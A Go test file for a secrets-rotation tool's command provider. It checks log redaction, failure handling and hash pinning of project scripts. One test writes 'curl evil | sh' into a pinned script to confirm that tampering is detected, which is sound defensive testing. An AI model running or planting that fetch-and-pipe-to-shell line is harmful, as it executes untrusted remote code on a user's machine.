package command

import (
	"context"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hush-secrets/hush/rotate"
	"github.com/hush-secrets/hush/store"
)

func provider(t *testing.T, dir, script string, extra map[string]any) (rotate.Provider, *rotate.Request, *[]string) {
	t.Helper()
	path := filepath.Join(dir, "rot.sh")
	if err := os.WriteFile(path, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	raw := map[string]any{"provider": "command", "command": []any{"./rot.sh"},
		"sha256": map[string]any{"./rot.sh": fmt.Sprintf("%x", sha256.Sum256([]byte(script)))}}
	for k, v := range extra {
		raw[k] = v
	}
	set, err := rotate.ParseSettings("API_KEY", raw)
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(set)
	if err != nil {
		t.Fatal(err)
	}
	var logs []string
	return p, &rotate.Request{ID: "r1", Env: "dev", Key: "API_KEY", Settings: set, Old: "old-secret-value", Proposed: "proposed-secret-value",
		Dir: dir, Getenv: func(k string) string {
			if k == "PATH" {
				return os.Getenv("PATH")
			}
			return ""
		},
		Secret: func(name string) (store.Value, error) { return store.Value("admin-secret-value"), nil },
		Now:    time.Now, Logf: func(f string, a ...any) { logs = append(logs, fmt.Sprintf(f, a...)) }}, &logs
}

func TestContract(t *testing.T) {
	dir := t.TempDir()
	p, req, logs := provider(t, dir, `#!/bin/sh
old=$(cat <&3); new=$(cat <&4)
echo "stderr has $old and $new and $ADMIN" >&2
[ "$1" = create ] && printf 'minted-%s\n' "$new"
exit 0
`, map[string]any{"secrets": []any{"ADMIN"}})
	res, err := p.Create(context.Background(), req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Value != "minted-proposed-secret-value" || !res.OldValid {
		t.Fatalf("create: %q old valid %v", res.Value.Reveal(), res.OldValid)
	}
	for _, l := range *logs {
		if strings.Contains(l, "secret-value") {
			t.Fatalf("stderr shown unmasked: %s", l)
		}
	}
	if len(*logs) != 1 || !strings.Contains((*logs)[0], "[redacted]") {
		t.Fatalf("logs %q", *logs)
	}
	if err := p.Verify(context.Background(), req, res); err != nil {
		t.Fatal(err)
	}
}

func TestFailures(t *testing.T) {
	for name, c := range map[string]struct {
		script, want string
		timeout      string
	}{
		"exit":    {"#!/bin/sh\nexit 4\n", "rot.sh create failed (exit status 4)", ""},
		"empty":   {"#!/bin/sh\nexit 0\n", "printed no new value", ""},
		"timeout": {"#!/bin/sh\nsleep 30 &\nwait\n", "stopped", "1s"},
	} {
		t.Run(name, func(t *testing.T) {
			extra := map[string]any{}
			if c.timeout != "" {
				extra["timeout"] = c.timeout
			}
			p, req, _ := provider(t, t.TempDir(), c.script, extra)
			ctx, cancel := context.WithTimeout(context.Background(), req.Settings.Timeout)
			defer cancel()
			start := time.Now()
			_, err := p.Create(ctx, req)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("err %v, want %q", err, c.want)
			}
			if time.Since(start) > 10*time.Second {
				t.Fatalf("took %v: the process group was not ended", time.Since(start))
			}
		})
	}
}

// TestPinnedFiles: every file of the project the command names is
// pinned by its hash, argv[0] or an argument (a script given to an
// interpreter); an absolute path or a program on PATH is not the
// repository's.
func TestPinnedFiles(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "lib.sh"), []byte("echo hi\n"), 0o644)
	set, _ := rotate.ParseSettings("K", map[string]any{"provider": "command", "command": []any{"sh", "lib.sh"}})
	p, _ := New(set)
	req := &rotate.Request{Dir: dir, Settings: set}
	err := p.(rotate.Preflight).Preflight(req)
	if err == nil || !strings.Contains(err.Error(), "lib.sh is a file of the project, so its content is pinned") {
		t.Fatalf("an unpinned script argument: %v", err)
	}
	sum := fmt.Sprintf("%x", sha256.Sum256([]byte("echo hi\n")))
	set, _ = rotate.ParseSettings("K", map[string]any{"provider": "command", "command": []any{"sh", "lib.sh"}, "sha256": map[string]any{"lib.sh": sum}})
	p, _ = New(set)
	if err := p.(rotate.Preflight).Preflight(&rotate.Request{Dir: dir, Settings: set}); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "lib.sh"), []byte("curl evil | sh\n"), 0o644)
	if err := p.(rotate.Preflight).Preflight(&rotate.Request{Dir: dir, Settings: set}); err == nil || !strings.Contains(err.Error(), "changed since hush.yaml pinned it") {
		t.Fatalf("a changed script: %v", err)
	}
	set, _ = rotate.ParseSettings("K", map[string]any{"provider": "command", "command": []any{"/bin/true", "--flag"}})
	p, _ = New(set)
	if err := p.(rotate.Preflight).Preflight(&rotate.Request{Dir: dir, Settings: set}); err != nil {
		t.Fatalf("an absolute program: %v", err)
	}
	for _, bad := range []map[string]any{
		{"provider": "command"},
		{"provider": "command", "command": []any{"x"}, "secrets": []any{"PATH"}},
		{"provider": "command", "command": []any{"x"}, "secrets": []any{"HUSH_ROTATE_ID"}},
		{"provider": "command", "command": []any{"x"}, "shell": "sh -c"},
	} {
		set, _ := rotate.ParseSettings("K", bad)
		if _, err := New(set); err == nil {
			t.Errorf("%v accepted", bad)
		}
	}
}
